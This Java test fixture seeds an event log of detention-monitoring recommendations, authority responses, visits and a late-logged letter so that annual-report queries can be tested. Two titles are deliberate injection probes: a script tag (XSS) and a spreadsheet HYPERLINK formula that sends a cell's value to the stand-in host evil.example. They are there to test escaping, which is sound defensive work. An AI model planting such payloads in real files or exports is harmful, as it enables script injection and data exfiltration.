package org.opcat.followup.query.report;

import static org.opcat.followup.query.FixedClock.at;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import org.opcat.followup.events.authority.AuthorityKind;
import org.opcat.followup.events.authority.AuthorityRegistered;
import org.opcat.followup.events.recommendation.ActionPlanFiled;
import org.opcat.followup.events.recommendation.AuthorityResponseRecorded;
import org.opcat.followup.events.recommendation.Channel;
import org.opcat.followup.events.recommendation.FollowUpVisitRecorded;
import org.opcat.followup.events.recommendation.ImplementationAssessed;
import org.opcat.followup.events.recommendation.ImplementationStatus;
import org.opcat.followup.events.recommendation.Measure;
import org.opcat.followup.events.recommendation.Position;
import org.opcat.followup.events.recommendation.Priority;
import org.opcat.followup.events.recommendation.RecommendationImplemented;
import org.opcat.followup.events.recommendation.RecommendationIssued;
import org.opcat.followup.events.recommendation.RecommendationReiterated;
import org.opcat.followup.events.recommendation.RecommendationReopened;
import org.opcat.followup.events.recommendation.RecommendationWithdrawn;
import org.opcat.followup.events.recommendation.Scope;
import org.opcat.followup.events.recommendation.Source;
import org.opcat.followup.events.recommendation.SourceKind;
import org.opcat.followup.events.recommendation.WithdrawalReason;
import org.opcat.followup.query.EventLog;

/**
 * Three years of follow-up (2023 to 2025, and a little of 2026) for the 2025 report, appended with
 * chosen recording instants: back-dated entries (a 2023 recommendation first recorded in March
 * 2025, a May 2025 one recorded in November, a visit recorded a month after it took place) and a
 * late-logged letter (authority B's answer to R3, dated 20 December 2025, logged 15 January 2026).
 *
 * <pre>
 * id  reference        issued      to   what happens (business date, recorded if it matters)
 * R1  2023/V-001/R-01  2023-03-10  A    answer A 2023-05-04 PARTIALLY_ACCEPTED (55 d); plan 2023-09-01;
 *                                       visit 2024-06-01 IN_PROGRESS; reiterated 2025-05-01 (rec. 05-02);
 *                                       visit 2025-04-15 PARTIALLY_IMPLEMENTED (rec. 2025-05-20, after the reiteration)
 * R2  2023/V-002/R-01  2023-06-01  B    answer B 2023-07-01 ACCEPTED (30 d); implemented 2024-02-01
 * R9  2023/V-003/R-01  2023-11-11  A    nothing else; first recorded 2025-03-05 (historic data)
 * R3  2024/V-010/R-02  2024-05-20  A,B  answer A 2024-07-19 UNDER_CONSIDERATION (60 d); implemented 2024-11-30;
 *                                       reopened 2025-03-01; visit 2025-06-10 NOT_IMPLEMENTED;
 *                                       LATE LETTER: answer B 2025-12-20 REJECTED (579 d), recorded 2026-01-15
 * R4  2024/V-011/R-01  2024-09-01  B    CONFIDENTIAL; answer B 2024-10-31 ACCEPTED (60 d); plan B 2025-02-10
 * R5  2025/V-020/R-01  2025-02-15  A    title is a script tag, text has quotes, commas, a line break;
 *                                       answer A 2025-03-17 ACCEPTED (30 d); implemented 2025-10-01
 * R6  2025/V-021/R-01  2025-05-05  B    recorded 2025-11-20 (back-dated); desk assessment 2025-09-01 IN_PROGRESS
 * R7  2025/V-022/R-01  2025-07-01  A    title is a spreadsheet formula; withdrawn 2025-08-01 ISSUED_IN_ERROR
 * R8  2026/V-030/R-01  2026-02-01  A    after the year: in no 2025 report
 * </pre>
 */
final class AnnualReportFixture {

    static final UUID A = id("authority-A");
    static final UUID B = id("authority-B");
    static final String A_NAME = "司法部监狱管理局";
    static final String B_NAME = "Ministry of Public Security 公安部";

    static final UUID R1 = id("R1");
    static final UUID R2 = id("R2");
    static final UUID R3 = id("R3");
    static final UUID R4 = id("R4");
    static final UUID R5 = id("R5");
    static final UUID R6 = id("R6");
    static final UUID R7 = id("R7");
    static final UUID R8 = id("R8");
    static final UUID R9 = id("R9");

    static final String R4_REFERENCE = "2024/V-011/R-01";
    static final String R4_TITLE = "机密：第三看守所的单独关押措施";
    static final String R4_TEXT = "第三看守所应停止对未成年人的长期单独关押。Confidential-text-marker";
    static final String R4_RESPONSE = "机密答复：将于明年整改。Confidential-answer-marker";
    static final String R5_TITLE = "<script>alert(1)</script>";
    static final String R5_TEXT = "Text with \"quotes\", commas, and\na second line";
    static final String R6_TITLE = "改善医疗服务";
    static final String R7_TITLE = "=HYPERLINK(\"https://evil.example/?d=\"&B5,\"Duplicate entry\")";
    static final String LATE_LETTER = "我们不同意该建议。";

    /** Before the late letter was logged (2026-01-15): what a report pinned on 10 January 2026 knew. */
    static final Instant KNOWN_10_JAN_2026 = Instant.parse("2026-01-10T00:00:00Z");

    private AnnualReportFixture() {
    }

    static UUID id(String name) {
        return UUID.nameUUIDFromBytes(("annual-report-" + name).getBytes(StandardCharsets.UTF_8));
    }

    static LocalDate d(String iso) {
        return LocalDate.parse(iso);
    }

    /** Number of report_fact rows the fixture produces (every event but the issued ones and registrations). */
    static final int FACTS = 18;
    static final int RECOMMENDATIONS = 9;

    static void append(EventLog log) {
        log.append("Authority", A, 0, new AuthorityRegistered(A, A_NAME, AuthorityKind.DETENTION_ADMINISTRATION, null),
                "admin", at(d("2023-01-02")));
        log.append("Authority", B, 0, new AuthorityRegistered(B, B_NAME, AuthorityKind.MINISTRY, null),
                "admin", at(d("2023-01-02")));

        log.recommendation(R1)
                .then(issued(R1, "2023/V-001/R-01", "改善监狱通风", "各监区应安装通风设备。", "2023-03-10", false, A),
                        "analyst", at(d("2023-03-11")))
                .then(response(R1, A, "2023-05-04", Position.PARTIALLY_ACCEPTED, "部分接受，资金有限。"), "analyst",
                        at(d("2023-05-05")))
                .then(new ActionPlanFiled(R1, id("R1-plan"), A, d("2023-09-01"),
                        List.of(new Measure("安装通风设备", "后勤处", d("2024-12-31")))), "analyst", at(d("2023-09-02")))
                .then(visit(R1, "2024-06-01", ImplementationStatus.IN_PROGRESS, "两个监区已安装。"), "analyst",
                        at(d("2024-06-02")))
                .then(new RecommendationReiterated(R1, d("2025-05-01"), "AR-2024"), "analyst", at(d("2025-05-02")))
                .then(visit(R1, "2025-04-15", ImplementationStatus.PARTIALLY_IMPLEMENTED, "五个监区中四个已安装。"),
                        "analyst", at(d("2025-05-20")));

        log.recommendation(R2)
                .then(issued(R2, "2023/V-002/R-01", "Access to a lawyer from the first hour", "Police must inform.",
                        "2023-06-01", false, B), "analyst", at(d("2023-06-01")))
                .then(response(R2, B, "2023-07-01", Position.ACCEPTED, "Accepted."), "analyst", at(d("2023-07-03")))
                .then(new RecommendationImplemented(R2, d("2024-02-01"), "Circular 2024/3"), "analyst",
                        at(d("2024-02-05")));

        log.recommendation(R9)
                .then(issued(R9, "2023/V-003/R-01", "Registers of detention", "Keep complete registers.",
                        "2023-11-11", false, A), "historian", at(d("2025-03-05")));

        log.recommendation(R3)
                .then(issued(R3, "2024/V-010/R-02", "禁止使用戒具惩罚", "不得以戒具作为惩罚手段。", "2024-05-20", false, A, B),
                        "analyst", at(d("2024-05-21")))
                .then(response(R3, A, "2024-07-19", Position.UNDER_CONSIDERATION, "正在研究。"), "analyst",
                        at(d("2024-07-22")))
                .then(new RecommendationImplemented(R3, d("2024-11-30"), "新规定发布"), "analyst", at(d("2024-12-02")))
                .then(new RecommendationReopened(R3, d("2025-03-01"), "查访发现复发"), "analyst", at(d("2025-03-02")))
                .then(visit(R3, "2025-06-10", ImplementationStatus.NOT_IMPLEMENTED, "仍在使用戒具。"), "analyst",
                        at(d("2025-06-11")))
                // The late-logged letter: dated 20 December 2025, logged on 15 January 2026.
                .then(response(R3, B, "2025-12-20", Position.REJECTED, LATE_LETTER), "analyst",
                        at(d("2026-01-15")));

        log.recommendation(R4)
                .then(new RecommendationIssued(R4, R4_REFERENCE, R4_TITLE, R4_TEXT, "zh", d("2024-09-01"),
                        new Source(SourceKind.VISIT_REPORT, "V-011"), null, List.of(B), List.of("solitary-confinement"),
                        Scope.SYSTEMIC, Priority.URGENT, List.of(), null, true), "analyst", at(d("2024-09-02")))
                .then(response(R4, B, "2024-10-31", Position.ACCEPTED, R4_RESPONSE), "analyst", at(d("2024-11-01")))
                .then(new ActionPlanFiled(R4, id("R4-plan"), B, d("2025-02-10"),
                        List.of(new Measure("机密措施-Confidential-measure-marker", "看守所", d("2025-12-31")))),
                        "analyst", at(d("2025-02-11")));

        log.recommendation(R5)
                .then(issued(R5, "2025/V-020/R-01", R5_TITLE, R5_TEXT, "2025-02-15", false, A), "analyst",
                        at(d("2025-02-16")))
                .then(response(R5, A, "2025-03-17", Position.ACCEPTED, "我们接受该建议。"), "analyst",
                        at(d("2025-03-18")))
                .then(new RecommendationImplemented(R5, d("2025-10-01"), "Inspection report"), "analyst",
                        at(d("2025-10-02")));

        log.recommendation(R6)
                .then(issued(R6, "2025/V-021/R-01", R6_TITLE, "应配备专职医生。", "2025-05-05", false, B), "analyst",
                        at(d("2025-11-20")))
                .then(new ImplementationAssessed(R6, id("R6-assessment"), d("2025-09-01"), ImplementationStatus.IN_PROGRESS,
                        "卫生部门报告", null), "analyst", at(d("2025-11-21")));

        log.recommendation(R7)
                .then(issued(R7, "2025/V-022/R-01", R7_TITLE, "Issued twice.", "2025-07-01", false, A),
                        "analyst", at(d("2025-07-01")))
                .then(new RecommendationWithdrawn(R7, d("2025-08-01"), WithdrawalReason.ISSUED_IN_ERROR, null),
                        "analyst", at(d("2025-08-02")));

        log.recommendation(R8)
                .then(issued(R8, "2026/V-030/R-01", "Next year's", "Not in 2025.", "2026-02-01", false, A), "analyst",
                        at(d("2026-02-02")));
    }

    static RecommendationIssued issued(UUID id, String reference, String title, String text, String issuedOn,
            boolean confidential, UUID... addressees) {
        return new RecommendationIssued(id, reference, title, text, "zh", d(issuedOn),
                new Source(SourceKind.VISIT_REPORT, reference.substring(5, 10)), null, List.of(addressees),
                List.of("detention"), Scope.SYSTEMIC, Priority.HIGH, List.of(), null, confidential);
    }

    static AuthorityResponseRecorded response(UUID id, UUID authority, String receivedOn, Position position,
            String text) {
        return new AuthorityResponseRecorded(id, id("response-" + id + receivedOn), authority, d(receivedOn),
                Channel.WRITTEN, position, text, "L-" + receivedOn);
    }

    static FollowUpVisitRecorded visit(UUID id, String visitedOn, ImplementationStatus status, String findings) {
        return new FollowUpVisitRecorded(id, id("visit-" + id + visitedOn), d(visitedOn), null, findings, status);
    }
}
